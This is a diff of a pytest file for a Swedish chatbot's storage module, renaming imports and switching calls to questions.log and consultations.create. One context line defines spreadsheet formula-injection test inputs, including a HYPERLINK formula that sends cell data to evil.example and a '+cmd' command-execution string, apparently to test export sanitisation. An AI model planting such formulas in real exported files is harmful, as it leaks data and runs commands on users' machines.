@@ -17,7 +17,7 @@ from pathlib import Path
 
 import pytest
 
-from bot.storage.database import Storage
+from bot.storage.store import Storage
 
 ROOT = Path(__file__).resolve().parent.parent
 NOW = datetime.now(UTC)
@@ -37,7 +37,7 @@ def lotsen(db: Path, *args: str, retention: int | None = None) -> subprocess.Com
 async def _fill(path: Path) -> None:
     async with await Storage.open(path) as storage:
         common = dict(user_key="pseudonym-1", role="larare", urgent=False, personnummer=False)
-        await storage.log_question(
+        await storage.questions.log(
             source_key="cli:1",
             municipality="gnesta",
             text="Elev kan inte sitta still",
@@ -47,7 +47,7 @@ async def _fill(path: Path) -> None:
             now=NOW,
             **common,
         )
-        await storage.log_question(
+        await storage.questions.log(
             source_key="cli:2",
             municipality="flen",
             text="Var ligger närmaste bibliotek?",
@@ -57,7 +57,7 @@ async def _fill(path: Path) -> None:
             now=NOW,
             **common,
         )
-        await storage.log_question(
+        await storage.questions.log(
             source_key="cli:3",
             municipality=None,
             text="Gammal fråga om frånvaro",
@@ -67,7 +67,7 @@ async def _fill(path: Path) -> None:
             now=NOW - timedelta(days=500),
             **common,
         )
-        await storage.create_consultation(
+        await storage.consultations.create(
             source_key="cli:4",
             user_key="pseudonym-1",
             chat_id=4242,
@@ -154,7 +154,7 @@ FORMULAS = ('=HYPERLINK("https://evil.example/?x="&A1,"Klicka")', "+cmd|' /C cal
 async def _log_formulas(path: Path) -> None:
     async with await Storage.open(path) as storage:
         for i, text in enumerate(FORMULAS):
-            await storage.log_question(source_key=f"cli:f{i}", user_key="p", municipality="flen", role=None,
+            await storage.questions.log(source_key=f"cli:f{i}", user_key="p", municipality="flen", role=None,
                                        text=text, topics=[], declined=True, kind="declined", urgent=False,
                                        personnummer=False)
 
